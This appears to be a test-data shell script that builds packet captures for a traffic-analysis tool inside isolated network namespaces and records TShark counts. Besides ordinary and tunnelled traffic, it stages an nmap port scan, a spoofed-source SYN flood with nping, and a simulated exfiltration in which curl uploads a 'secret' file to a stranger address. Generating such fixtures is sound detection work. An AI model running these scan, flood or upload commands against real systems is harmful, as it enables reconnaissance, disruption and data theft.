#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Makes the captures of this folder with real tools in network namespaces, and counts them by TShark
# into expected.tsv. Needs root, tcpdump, dumpcap, tshark, iperf3, curl, dig, nmap (with nping), ping, zstd.
# A new run gives other frames, and so other counts: both are committed together.
#
# usage: tests/data/pcap/make.sh [NAME...]    all captures, or those named (ipv4, vlan, leak, ...)
#        tests/data/pcap/make.sh count        only expected.tsv again
set -eu
cd "$(dirname "$0")"
here=$(pwd)
work=$(mktemp -d)
inside=inside-$$   # 10.0.5.10, fd00:5::10: ours
outside=outside-$$ # 192.0.2.1 to .9, 203.0.113.66, 2001:db8::1: everybody else
mirror=mirror-$$
started=

within() { # NAMESPACE COMMAND...
    namespace=$1
    shift
    ip netns exec "$namespace" "$@"
}

start() { # COMMAND...: in the background, until the scene is struck
    "$@" >"$work/log" 2>&1 &
    started="$! $started"
}

strike() {
    for process in $started; do
        kill "$process" 2>/dev/null || true
    done
    started=
    for namespace in "$inside" "$outside" "$mirror"; do
        ip netns del "$namespace" 2>/dev/null || true
    done
}
trap 'strike; rm -rf "$work"' EXIT
trap 'exit 1' INT TERM

# addresses DEVICE: of both ends
addresses() {
    for namespace in "$inside" "$outside"; do
        ip -n "$namespace" link set lo up
        ip -n "$namespace" link set "$1" up
    done
    ip -n "$inside" addr add 10.0.5.10/24 dev "$1"
    ip -n "$inside" addr add fd00:5::10/64 dev "$1" nodad
    for i in 1 2 3 4 5 6 7 8 9; do
        ip -n "$outside" addr add "192.0.2.$i/24" dev "$1"
    done
    ip -n "$outside" addr add 2001:db8::1/64 dev "$1" nodad
    ip -n "$outside" addr add 203.0.113.66/24 dev "$1"
    ip -n "$inside" route add default dev "$1"
    ip -n "$inside" -6 route add default dev "$1"
    ip -n "$outside" route add 10.0.5.0/24 dev "$1"
    ip -n "$outside" -6 route add fd00:5::/64 dev "$1"
}

# wait_for NAMESPACE DEVICE: up to ten seconds
wait_for() {
    for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
        ip -n "$1" link show "$2" >/dev/null 2>&1 && return
        sleep 0.5
    done
    cat "$work/log"
    return 1
}

# services: in both namespaces, so that each end can be asked
services() {
    for namespace in "$inside" "$outside"; do
        start ip netns exec "$namespace" python3 "$here/peers.py"
        start ip netns exec "$namespace" iperf3 -s
    done
    sleep 1
}

# scene KIND: namespaces joined by wire.py
scene() {
    strike
    for namespace in "$inside" "$outside" "$mirror"; do
        ip netns add "$namespace"
    done
    start python3 "$here/wire.py" "$1" "$inside" "$outside" "$mirror"
    wait_for "$mirror" mirror0
    within "$mirror" sysctl -qw net.ipv6.conf.mirror0.disable_ipv6=1
    ip -n "$mirror" link set mirror0 mtu 2000 up
    addresses wire0
    services
}

# veth_scene: namespaces joined by the kernel, with its offloads
veth_scene() {
    strike
    ip netns add "$inside"
    ip netns add "$outside"
    ip -n "$inside" link add veth0 type veth peer name veth0 netns "$outside"
    addresses veth0
    services
}

# record FILE NAMESPACE DEVICE [OPTION...]
record() {
    file=$1
    namespace=$2
    device=$3
    shift 3
    ip netns exec "$namespace" tcpdump -Z root -i "$device" -w "$file" "$@" 2>"$work/tcpdump" &
    recorder=$!
    until grep -qs 'listening on' "$work/tcpdump"; do sleep 0.1; done
}

stop() {
    sleep 1.5
    kill "$recorder"
    wait "$recorder" || true
}

ask() { # ADDRESS [CURL-OPTION...]
    host=$1
    shift
    within "$inside" curl -gs -o /dev/null "$@" "http://$host/1$(date +%N | cut -c 1-4)" || true
}

bracket() {
    case $1 in *:*) echo "[$1]" ;; *) echo "$1" ;; esac
}

# everyday SERVER OWN: what a host does all day, in a few seconds
everyday() {
    bracketed=$(bracket "$1")
    within "$inside" ping -c 3 -i 0.2 "$1" >/dev/null
    ask "$bracketed"
    ask "$bracketed" -T "$here/make.sh"
    within "$inside" dig +tries=1 "@$1" example.com A >/dev/null
    within "$inside" dig +tries=1 "@$1" example.com TXT >/dev/null
    within "$outside" curl -gs -o /dev/null "http://$(bracket "$2")/20000" || true
    within "$inside" curl -gs -o /dev/null "http://$bracketed:81/" || true # a port that is closed
    within "$inside" iperf3 -c "$1" -n 100K >/dev/null
    within "$inside" iperf3 -c "$1" -u -b 2M -n 40K >/dev/null
}

both() {
    everyday 192.0.2.1 10.0.5.10
    everyday 2001:db8::1 fd00:5::10
}

few() { # a handful of frames of either family
    within "$inside" ping -c 2 -i 0.2 192.0.2.1 >/dev/null
    within "$inside" ping -c 2 -i 0.2 2001:db8::1 >/dev/null
    within "$inside" dig +tries=1 @192.0.2.1 example.com A >/dev/null
    ask 192.0.2.1
    ask "[2001:db8::1]"
}

make_ipv4() {
    scene plain
    record ipv4.pcap "$mirror" mirror0 -s 96
    everyday 192.0.2.1 10.0.5.10
    stop
}

make_ipv6() {
    scene plain
    record ipv6.pcap "$mirror" mirror0 -s 96
    everyday 2001:db8::1 fd00:5::10
    stop
}

make_vlan() { wrapped vlan; }
make_qinq() { wrapped qinq; }
make_geneve() { wrapped geneve; }
make_gre() { wrapped gre; }
wrapped() {
    scene "$1"
    record "$1.pcap" "$mirror" mirror0 -s 160
    both
    stop
}

# The kernel's own tunnel over a veth pair: the outer packets are recorded.
make_vxlan() {
    veth_scene
    for end in "$inside 10.0.5.10 192.0.2.1 1" "$outside 192.0.2.1 10.0.5.10 2"; do
        # shellcheck disable=SC2086
        set -- $end
        ip -n "$1" link add vx0 type vxlan id 42 dstport 4789 local "$2" remote "$3"
        ip -n "$1" addr add "172.31.0.$4/24" dev vx0
        ip -n "$1" addr add "fd00:31::$4/64" dev vx0 nodad
        ip -n "$1" link set vx0 up
    done
    record vxlan.pcap "$inside" veth0 -s 160
    everyday 172.31.0.2 172.31.0.1
    everyday fd00:31::2 fd00:31::1
    stop
}

make_scan() {
    scene plain
    record scan.pcap "$mirror" mirror0 -s 96
    within "$outside" nmap -n -Pn -sS -T4 -p 1-600 --max-retries 1 10.0.5.10 >/dev/null
    within "$outside" nmap -n -Pn -sU -T4 -p 53,123,161 --max-retries 0 10.0.5.10 >/dev/null
    stop
}

make_synflood() {
    scene plain
    record synflood.pcap "$mirror" mirror0 -s 96
    for i in 2 3 4 5 6 7 8 9; do
        within "$outside" nping --quiet --tcp --flags syn -p 80 -g $((20000 + i)) -S "192.0.2.$i" \
            --rate 500 -c 50 10.0.5.10 >/dev/null
    done
    stop
}

make_fragments() {
    scene plain
    record fragments.pcap "$mirror" mirror0 -s 128
    within "$inside" ping -c 3 -i 0.2 -s 4000 192.0.2.1 >/dev/null
    within "$inside" ping -c 3 -i 0.2 -s 4000 2001:db8::1 >/dev/null
    within "$inside" iperf3 -c 192.0.2.1 -u -l 5000 -b 2M -n 30K >/dev/null 2>&1
    stop
}

make_any() {
    veth_scene
    record sll2.pcap "$inside" any -s 96 -y LINUX_SLL2
    both
    within "$inside" ping -c 2 -i 0.2 127.0.0.1 >/dev/null
    stop
    record sll.pcap "$inside" any -s 96 -y LINUX_SLL
    few
    stop
}

make_tun() {
    scene tun
    record tun.pcap "$mirror" mirror0 -s 96
    both
    stop
}

# An Ethernet and a raw interface in one file; dumpcap writes pcapng.
make_links() {
    veth_scene
    ip netns add "$mirror"
    start python3 "$here/wire.py" tun "$inside" "$outside" "$mirror"
    wait_for "$mirror" mirror0
    for end in "$inside 1" "$outside 2"; do
        ip -n "${end% *}" link set wire0 up
        ip -n "${end% *}" addr add "172.31.0.${end#* }/24" dev wire0
    done
    ip netns exec "$inside" dumpcap -q -s 96 -i veth0 -i wire0 -w "$work/links.pcapng" 2>"$work/dumpcap" &
    recorder=$!
    sleep 2
    few
    everyday 172.31.0.2 172.31.0.1
    few
    stop
    cat "$work/links.pcapng" >links.pcapng
}

make_nano() {
    scene plain
    record nano.pcap "$mirror" mirror0 -s 96 --time-stamp-precision=nano
    few
    stop
}

# Frames of up to 64 KiB, as a host with segmentation offload records them; of each 58 octets only,
# which hold the flags of TCP over IPv4 and end behind the ports over IPv6.
make_offload() {
    veth_scene
    record offload.pcap "$inside" veth0 -s 58
    within "$inside" iperf3 -c 192.0.2.1 -n 20M >/dev/null
    within "$inside" iperf3 -c 2001:db8::1 -n 20M >/dev/null
    stop
}

# Ten minutes of a web server's day, then five in which it sends 10 MB a minute to a stranger.
make_leak() {
    veth_scene
    record leak.pcap "$inside" veth0 -s 54
    finish=$(($(date +%s) + 900))
    leak=$(($(date +%s) + 600))
    head -c 60000000 /dev/zero >"$work/secret"
    while [ "$(date +%s)" -lt "$finish" ]; do
        for i in 1 2 3 4; do
            within "$outside" curl -s -o /dev/null --interface "192.0.2.$i" \
                "http://10.0.5.10/3$(date +%N | cut -c 1-4)" || true
        done
        within "$inside" dig +tries=1 @192.0.2.9 "host$(date +%S).example.com" A >/dev/null
        ask 192.0.2.8
        within "$outside" ping -c 1 -I 192.0.2.9 10.0.5.10 >/dev/null
        if [ "$leak" -gt 0 ] && [ "$(date +%s)" -ge "$leak" ]; then
            leak=0
            start ip netns exec "$inside" curl -s -o /dev/null --limit-rate 170k -T "$work/secret" http://203.0.113.66/
        fi
        sleep 7
    done
    stop
    zstd -q -19 --rm -f leak.pcap
}

# From the others: pcapng, gzip, and files that end too early.
make_derived() {
    tshark -r nano.pcap -w nano.pcapng -F pcapng 2>/dev/null
    gzip -9nkf ipv6.pcap
    head -c 5000 ipv4.pcap >cut.pcap
    head -c 5000 links.pcapng >cut.pcapng
}

# One line a file: all frames with their lengths on the wire, and of the outermost IP header the
# protocol (behind extension headers) and the length. Fragments are not put together: each is a packet.
# Then the protocols inside one tunnel, where there is one that carries IP.
count() {
    printf 'file\tpackets\tframe_bytes\tip_packets\ttcp\tudp\ticmp\tbytes\tinner_tcp\tinner_udp\tinner_icmp\n'
    for file in *.pcap *.pcap.gz *.pcap.zst *.pcapng; do
        tshark -r "$file" -o ip.defragment:FALSE -o ipv6.defragment:FALSE -T fields -E occurrence=f \
            -e frame.len -e frame.protocols -e ip.proto -e ip.len -e ipv6.nxt -e ipv6.plen \
            -e ipv6.hopopts.nxt -e ipv6.fraghdr.nxt 2>/dev/null | awk -F '\t' -v file="$file" '
            # add IS-INNER PROTOCOL
            function add(inner, protocol) {
                tcp[inner] += protocol == 6
                udp[inner] += protocol == 17
                icmp[inner] += protocol == 1 || protocol == 58
            }
            { packets++; frame_bytes += $1 }
            match($2, /:ip(v6)?(:|$)/) {
                if (substr($2, RSTART, 5) == ":ipv6") {
                    protocol = $5 == 0 ? $7 : $5
                    if (protocol == 44) protocol = $8
                    bytes += 40 + $6
                } else {
                    protocol = $3
                    bytes += $4
                }
                ip++
                add(0, protocol)
                if (match($2, /:(gre|vxlan|geneve):.*/)) {
                    inside = substr($2, RSTART)
                    if (inside ~ /:ip(v6)?(:ipv6[^:]*)*:tcp/) protocol = 6
                    else if (inside ~ /:ip(v6)?(:ipv6[^:]*)*:udp/) protocol = 17
                    else if (inside ~ /:ip(v6)?(:ipv6[^:]*)*:icmp/) protocol = 1
                }
                add(1, protocol)
            }
            END {
                printf "%s\t%d\t%d\t%d\t%d\t%d\t%d\t%d\t%d\t%d\t%d\n", file, packets, frame_bytes, ip,
                    tcp[0], udp[0], icmp[0], bytes, tcp[1], udp[1], icmp[1]
            }'
    done
}

if [ "${1:-}" != count ]; then
    for name in ${*:-ipv4 ipv6 vlan qinq vxlan geneve gre scan synflood fragments any tun links nano offload leak derived}; do
        echo "$name"
        "make_$name"
    done
fi
count >expected.tsv
cat expected.tsv
